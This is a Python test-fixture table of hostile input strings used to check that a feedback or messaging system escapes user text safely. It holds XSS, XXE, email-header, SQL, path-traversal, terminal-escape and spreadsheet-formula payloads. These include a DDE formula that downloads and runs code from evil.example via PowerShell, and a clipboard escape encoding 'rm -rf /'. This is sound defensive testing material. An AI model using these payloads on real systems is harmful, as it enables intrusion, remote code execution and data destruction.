"""What strangers may write to hurt somebody: one table for every test that shows text.

The names say what each text is after; none of them may ever come to pass.
"""

from __future__ import annotations

ESC = "\x1b"

HOSTILE: dict[str, str] = {
    # Markup: a browser, MJML, a template engine, an XML parser
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)><b onclick=a()>negrito</b>",
    "html attribute": "\" onmouseover=\"alert(1)\" x='1' style='position:fixed'",
    "html entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &nope; &amp;amp;",
    "html comment": "<!-- sumiu --> --> <!--[if mso]><p>x</p><![endif]-->",
    "mjml": "</mj-text></mj-column><mj-raw><iframe src=//evil.example></iframe></mj-raw>",
    "mjml include": "<mj-include path='/etc/passwd' /><mj-style>*{display:none}</mj-style>",
    "jinja": "{{ 7 * 7 }} {% raw %} {# nada #} {{ config }} {%- endraw -%}",
    "cdata": "]]> <![CDATA[ <b>x</b> ]]> <?xml version='1.0'?>",
    "entity bomb": '<!DOCTYPE a [<!ENTITY b "&c;&c;"><!ENTITY c SYSTEM "file:///etc/passwd">]>&b;',
    "css": "</style><style>body{display:none}</style> expression(alert(1))",
    "sgml": "<plaintext><textarea></title></head><base href=//evil.example>",
    # Mail: a second header, a second body, the end of DATA
    "header": "Oferta\r\nBcc: vitima@evil.example\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "header lf": "Oferta\nBcc: vitima@evil.example\nX-Evil: 1",
    "header cr": "Oferta\rBcc: vitima@evil.example",
    "header folded": "Oferta\r\n Bcc: vitima@evil.example\x0bX-Evil: 1\x85X-Evil: 2",
    "encoded word": "=?utf-8?q?=0D=0ABcc:_vitima=40evil.example?= =?utf-7?Q?+AAoA?=",
    "smtp": "fim\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n.",
    "boundary": "--=_0\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n--=_0--",
    # A terminal that obeys
    "csi": f"{ESC}[31mvermelho{ESC}[0m {ESC}[2J{ESC}[H {ESC}[6n",
    "c1": "\x9b31mvermelho \x9d0;titulo\x9c \x90q\x9c \x85 \x8d",
    "osc title": f"{ESC}]0;titulo\x07 {ESC}]2;outro{ESC}\\",
    "osc link": f"{ESC}]8;;http://evil.example{ESC}\\clique{ESC}]8;;{ESC}\\",
    "osc clipboard": f"{ESC}]52;c;cm0gLXJmIC8=\x07",
    "dcs": f"{ESC}P$q m{ESC}\\ {ESC}_apc{ESC}\\ {ESC}^pm{ESC}\\ {ESC}c",
    "broken escape": f"{ESC}[ {ESC}] {ESC}[38;5; {ESC}",
    "backspace": "senha\x08\x08\x08\x08\x08*****\x07\x0e\x0f\x7f",
    "carriage": "tudo bem\rtudo mal",
    # A spreadsheet that computes
    "formula": '=HYPERLINK("http://evil.example","clique")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula cr": "\r=1+1",
    "formula line": "\n=1+1",
    "formula wide": "＝1+1",
    "formula blank": " \u00a0=1+1",
    "formula hidden": "\u200b\ufeff=1+1",
    "formula quote": '"=1+1',
    "dde": "=cmd|'/C powershell IEX(wget evil.example)'!A1",
    "separator": 'a;b,c\td|e";"\n=1+1;"',
    # A reader's eyes
    "rtl override": "conta \u202eoirártnoc oa\u202c fim \u202dx\u202c",
    "rtl isolate": "\u2066isolado\u2069 \u2067x\u2069 \u2068y\u2069 aberto \u2067",
    "rtl marks": "\u200eabc\u200f \u061cabc",
    "zero width": "se\u200bnha\u2060 a\u00adb \u200cc\u200dd",
    "zalgo": "r" + "\u0335\u0321\u0301" * 200 + "uim",
    "line separators": "um\u2028dois\u2029três\x0bquatro\x0ccinco\x85seis",
    "bom": "\ufeffinício \ufeff meio \ufffe \uffff \ufdd0",
    "homoglyph": "аррlе раураl ΑΒΓ ﬁm ½",
    "replacement": "\ufffd\ufffc\u0000fim",
    # Bytes that are no text
    "nul": "antes\x00depois",
    "controls": "".join(chr(code) for code in [*range(32), *range(127, 160)]) + "fim",
    "surrogate": "meio \ud83d emoji \ude00 \udfff\ud800 fim",
    "surrogate pair": "inteiro \ud83d\ude00 fim",
    "not characters": "\U0001fffe \U0010ffff \ue000 \U000e0041",
    # Letters that come in company
    "family": "👨\u200d👩\u200d👧\u200d👦 👩🏽\u200d🚀 👍🏿 ❤\ufe0f\u200d🔥",
    "flags": "🇧🇷🇪🇸🇺🇸 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f 🇧",
    "keycaps": "1\ufe0f\u20e3 #\ufe0f\u20e3 ©\ufe0f ☺\ufe0e",
    "scripts": "服务太差了，客服不回复。 الخدمة سيئة جدا והשירות גרוע บริการแย่มาก खराब सेवा",
    "ligatures": "क्षत्रिय ஸ்ரீ ﷽ 각 Å ǆ ŉ",
    # A program that formats, asks or matches
    "percent": "%s %d %(n)s %(name)s %% %n 100%",
    "braces": "{0} {} {name} {0.__class__} ${HOME} $(reboot) `reboot`",
    "rich markup": "[red]vermelho[/red] [link=http://evil.example]x[/link] [/] :smile:",
    "mathtext": "custou $\\frac{1}{0}$ e $x_1$ mais $100$ \\LaTeX $",
    "sql": "'; DROP TABLE feedback; -- \" OR 1=1 \\' %' _",
    "path": "../../etc/passwd\\..\\x /dev/null C:\\con nul.txt",
    "log": "2026-01-01 00:00:00 INFO tudo certo\n2026-01-01 00:00:01 ERROR inventado",
    "json": '{"id": 1} \\u0000 \\ud800 \\n "},{"',
    "regex": "(a+)+$ [[:alpha:] \\1 (?P<n>",
    # A chat that calls people
    "slack": "<!channel> <!here> <@U012AB3CD> <http://evil.example|clique> *x* ~y~",
    "mention": "@here @channel @everyone @all @todos chegou",
    "markdown": "[x](http://evil.example) ![i](http://evil.example/i.png) **y** `z` # h\n> citado",
    "teams": "<at>Todos</at> <https://evil.example> [a]: http://evil.example",
    "link": "veja http://evil.example/a?b=1&c=2 www.evil.example javascript:alert(1)",
    # Sizes
    "long word": "a" * 5_000,
    "long letters": "👨\u200d👩\u200d👧" * 700,
    "long line": "péssimo " * 700,
    "many lines": "\n".join(["reclamo"] * 400),
    "only blanks around": " \u00a0\u3000\n\t texto \t\n ",
}
"""What it is after → the text, exactly as it would come in."""

LONGEST_WORD = "a" * 100_000
"""One word, as long as a text may be."""

MEGABYTE = "a" * 1_000_000
"""One word that is set aside."""
